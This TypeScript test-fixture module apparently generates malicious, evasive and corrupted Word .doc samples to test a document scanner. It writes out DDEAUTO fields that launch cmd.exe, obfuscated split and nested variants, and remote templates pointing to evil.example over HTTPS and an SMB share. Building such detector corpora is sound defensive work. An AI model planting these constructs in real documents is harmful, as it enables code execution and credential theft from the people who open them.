import type { CompoundPart } from "../kit/compound-file.ts";
import { doc } from "../kit/word.ts";
import type { CorpusFile } from "./hostile-corpus.ts";
import { toCorpusFiles } from "./to-corpus-files.ts";

/** Word 97–2003 documents that run or fetch something, that hide from the inspection what they do, or are damaged. */
export function hostileDocFiles(): CorpusFile[] {
  const dde = " DDEAUTO c:\\\\windows\\\\cmd.exe ";
  const part = (name: string): CompoundPart => ({ name });
  const active: [string, Buffer][] = [
    ["DDEAUTO", doc({ text: [`\u0013${dde}\u0014x\u0015\r`] })],
    ["DDE in 8 bits", doc({ text: ["A", "\u0013 dde Excel \u0014x\u0015\r"] })],
    ["DDEAUTO over pieces", doc({ text: ["\u0013 D", "D", "EAU", "TO c:", "\u0014x\u0015"] })],
    ["DDEAUTO without an end", doc({ text: [`\u0013${dde}`] })],
    [
      "DDEAUTO in a field",
      doc({ text: [`\u0013 IF 1=1 \u0013${dde}\u0014x\u0015 \u0014x\u0015`] }),
    ],
    [
      "name made by a field",
      doc({ text: ["\u0013\u0013 QUOTE 68 \u0014D\u0015 c: \u0014x\u0015"] }),
    ],
    ["INCLUDEPICTURE", doc({ text: ['\u0013 INCLUDEPICTURE "http://e.example" \u0014\u0015'] })],
    ["LINK", doc({ text: ["\u0013 LINK Excel.Sheet \u0014\u0015"] })],
    ["template from elsewhere", doc({ template: "https://evil.example/t.dot" })],
    ["template from a share", doc({ template: "\\\\evil.example\\share\\t.dot" })],
    ["object", doc({ more: [{ name: "ObjectPool", isStorage: true, hasChildren: true }] })],
    ["package", doc({ more: [part("\u0001Ole10Native")] })],
    ["embedded document", doc({ more: [part("Package")] })],
    ["object's note", doc({ more: [part("\u0003ObjInfo")] })],
    ["control", doc({ more: [part("\u0003OCXNAME")] })],
    ["macros", doc({ more: [{ name: "Macros", isStorage: true, hasChildren: true }] })],
  ];
  const hidden: [string, Buffer][] = [
    ["encrypted", doc({ isEncrypted: true })],
    ["of Word 95", doc({ version: 0x68 })],
    ["with a longer header", doc({ firstListLength: 16 })],
    ["of overlapping pieces", docWithOverlappingPieces()],
  ];
  const damaged: [string, Buffer][] = [
    ["cut off", doc().subarray(0, 3000)],
    ["chain without an end", docWithEndlessChain()],
    ["a second text", doc({ more: [part("WordDocument")] })],
  ];
  return [
    ...toCorpusFiles("doc", active, "active"),
    ...toCorpusFiles("doc", hidden, "uncheckable"),
    ...toCorpusFiles("doc", damaged, "corrupted"),
  ];
}

/** Twelve thousand pieces that all refer to the same eight hundred characters. */
function docWithOverlappingPieces(): Buffer {
  const text = Array.from({ length: 12_000 }, () => "x".repeat(800));
  return doc({ text, isOverlapping: true });
}

/** A sector table whose directory refers to itself. */
function docWithEndlessChain(): Buffer {
  const bytes = Buffer.from(doc());
  bytes.writeUInt32LE(1, 512 + 4);
  return bytes;
}
